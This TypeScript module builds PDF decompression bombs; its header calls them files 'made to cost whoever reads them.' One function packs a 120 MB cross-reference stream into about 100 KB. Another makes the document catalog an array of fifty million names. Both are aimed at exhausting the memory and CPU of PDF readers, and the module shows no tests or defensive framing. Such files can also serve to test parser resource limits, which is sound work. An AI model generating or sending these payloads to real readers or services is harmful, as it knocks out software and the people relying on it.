/** Small PDF files made to cost whoever reads them. */
import { deflateSync } from 'node:zlib';

interface PlacedObject {
  readonly number: number;
  readonly bytes: Buffer;
}

const stream = (dictionary: string, content: Buffer): Buffer => {
  const packed = deflateSync(content);
  const head = `<< ${dictionary} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`;
  return Buffer.concat([Buffer.from(head), packed, Buffer.from('\nendstream')]);
};

const withHead = ({ number, bytes }: PlacedObject): Buffer =>
  Buffer.concat([Buffer.from(`${number} 0 obj\n`), bytes, Buffer.from('\nendobj\n')]);

const ending = (start: number): Buffer => Buffer.from(`startxref\n${start}\n%%EOF\n`);
const beginning = Buffer.from('%PDF-1.7\n');

/** One row of a cross-reference stream with widths 1, 4 and 2. */
function row(kind: number, first: number, second: number): Buffer {
  const bytes = Buffer.alloc(7);
  bytes.writeUInt8(kind);
  bytes.writeUInt32BE(first, 1);
  bytes.writeUInt16BE(second, 5);
  return bytes;
}

/** A cross-reference stream of 120 MB in rows of one byte, some 100 KB when packed. */
export function rowsWithoutEnd(): Buffer {
  const dictionary = '/Type /XRef /Size 3 /W [1 4 2] /Root 1 0 R /DecodeParms << /Predictor 12 /Columns 1 >>';
  const table = withHead({ number: 2, bytes: stream(dictionary, Buffer.alloc(120_000_000)) });
  return Buffer.concat([beginning, table, ending(beginning.length)]);
}

/** A catalog that is a list of fifty million names, some 100 KB when packed. */
export function namesWithoutEnd(): Buffer {
  const head = '1 0 ';
  const names = Buffer.concat([Buffer.from(`${head}[`), Buffer.alloc(100_000_000, '/a'), Buffer.from(']')]);
  const container = withHead({ number: 2, bytes: stream(`/Type /ObjStm /N 1 /First ${head.length}`, names) });
  const start = beginning.length + container.length;
  const rows = [row(0, 0, 0), row(2, 2, 0), row(1, beginning.length, 0), row(1, start, 0)];
  const dictionary = '/Type /XRef /Size 4 /W [1 4 2] /Root 1 0 R';
  const table = withHead({ number: 3, bytes: stream(dictionary, Buffer.concat(rows)) });
  return Buffer.concat([beginning, container, table, ending(start)]);
}
